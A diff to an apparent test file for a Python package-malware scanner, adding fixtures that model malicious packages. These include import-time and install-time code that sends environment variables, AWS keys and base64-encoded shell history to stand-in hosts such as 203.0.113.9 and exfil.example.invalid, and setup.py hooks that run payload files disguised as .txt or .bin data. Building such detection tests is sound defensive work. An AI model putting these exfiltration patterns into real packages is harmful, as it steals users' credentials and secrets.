@@ -23,6 +23,10 @@ B64B64 = base64.b64encode(B64.encode()).decode()
 ROT13 = codecs.encode(SCRIPT, "rot13")
 REVERSED = SCRIPT[::-1]
 INTS = ", ".join(str(b) for b in SCRIPT.encode())
+STEAL = (
+    "import os, urllib.request\n"
+    "urllib.request.urlopen('http://203.0.113.9/c', data=str(dict(os.environ)).encode())\n"
+)
 ZB64 = base64.b64encode(zlib.compress(SCRIPT.encode())).decode()
 
 VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
@@ -181,6 +185,66 @@ VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
         },
         ("chain.exfiltration",),
     ),
+    # plain Python in a data file of the package, run by its own code
+    "setup_execs_txt_file": (
+        {
+            "setup.py": "import os\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\n"
+            "exec(open(os.path.join(here, 'pkg', 'assets', 'defaults.txt')).read())\n"
+            "setup(name='pkg', version='1')\n",
+            "pkg/__init__.py": "",
+            "pkg/assets/defaults.txt": SCRIPT + "\n",
+        },
+        ("chain.download_execute", "place.install_time"),
+    ),
+    "import_execs_dat_file_in_with": (
+        {
+            "pkg/__init__.py": "import os\n"
+            "with open(os.path.join(os.path.dirname(__file__), 'cache.dat')) as f:\n    exec(f.read())\n",
+            "pkg/cache.dat": SCRIPT + "\n",
+        },
+        ("chain.download_execute", "place.import_time"),
+    ),
+    "runpy_runs_bin_file": (
+        {
+            "pkg/__init__.py": "import runpy, os\n"
+            "runpy.run_path(os.path.join(os.path.dirname(__file__), 'res', 'init.bin'))\n",
+            "pkg/res/init.bin": STEAL,
+        },
+        ("chain.exfiltration", "place.import_time"),
+    ),
+    "interpreter_started_on_txt_in_setup": (
+        {
+            "setup.py": "import subprocess, sys\nfrom setuptools import setup\n"
+            "subprocess.Popen([sys.executable, 'pkg/helper.txt'])\nsetup(name='pkg', version='1')\n",
+            "pkg/__init__.py": "",
+            "pkg/helper.txt": SCRIPT + "\n",
+        },
+        ("chain.download_execute", "place.install_time"),
+    ),
+    # secrets by name and history files, sent at import
+    "aws_keys_by_name": (
+        {
+            "pkg/__init__.py": "import os, requests\nrequests.post('http://192.0.2.121/k', data={"
+            "'a': os.environ.get('AWS_ACCESS_KEY_ID'), 's': os.environ.get('AWS_SECRET_ACCESS_KEY')})\n",
+        },
+        ("chain.exfiltration", "chain.exfil_endpoint", "place.import_time"),
+    ),
+    "shell_history_base64_in_query": (
+        {
+            "pkg/__init__.py": "import os, base64, requests\n"
+            "h = open(os.path.expanduser('~/.bash_history')).read()\n"
+            "requests.get('http://198.51.100.5/?d=' + base64.b64encode(h.encode()).decode())\n",
+        },
+        ("chain.exfiltration", "place.import_time"),
+    ),
+    "environment_spread_to_domain": (
+        {
+            "pkg/__init__.py": "import os, json, http.client\n"
+            "c = http.client.HTTPSConnection('exfil.example.invalid')\n"
+            "c.request('POST', '/x', body=json.dumps({**os.environ}))\n",
+        },
+        ("chain.exfiltration", "place.import_time"),
+    ),
 }
 
 
@@ -198,3 +262,25 @@ def test_each_carrier_and_sink_is_high_with_its_threat(name, tmp_path):
     strong = {t.id for t in result.threats if t.severity in ("high", "critical")}
     assert result.risk.level in ("high", "critical"), (name, sorted({t.id for t in result.threats}))
     assert strong & set(expected), (name, sorted(strong))
+
+
+def test_a_version_file_executed_by_setup_is_no_threat(tmp_path):
+    """``exec(open("pkg/VERSION.txt").read())`` beside ``open("README.md")`` is how thousands of
+    setup.py files read their version: both files are read as Python, neither acts."""
+    files = {
+        "setup.py": "from setuptools import setup\nns = {}\n"
+        "exec(open('pkg/VERSION.txt').read(), ns)\nlong = open('README.md').read()\n"
+        "setup(name='pkg', version=ns['__version__'], long_description=long)\n",
+        "pkg/__init__.py": "",
+        "pkg/VERSION.txt": "__version__ = '1.2.3'\n",
+        "README.md": "# pkg\n\nInstall with `pip install pkg`, then `curl http://example.invalid`.\n",
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in ("high", "critical"), [t.id for t in result.threats]
+
+
+def test_a_data_file_nobody_runs_stays_data(tmp_path):
+    """The same script in a data file that no code runs is text, shown one step lower."""
+    files = {"pkg/__init__.py": "VERSION = '1.0'\n", "pkg/assets/defaults.txt": SCRIPT + "\n"}
+    result = scan(files, tmp_path)
+    assert result.risk.level not in ("high", "critical"), [t.id for t in result.threats]
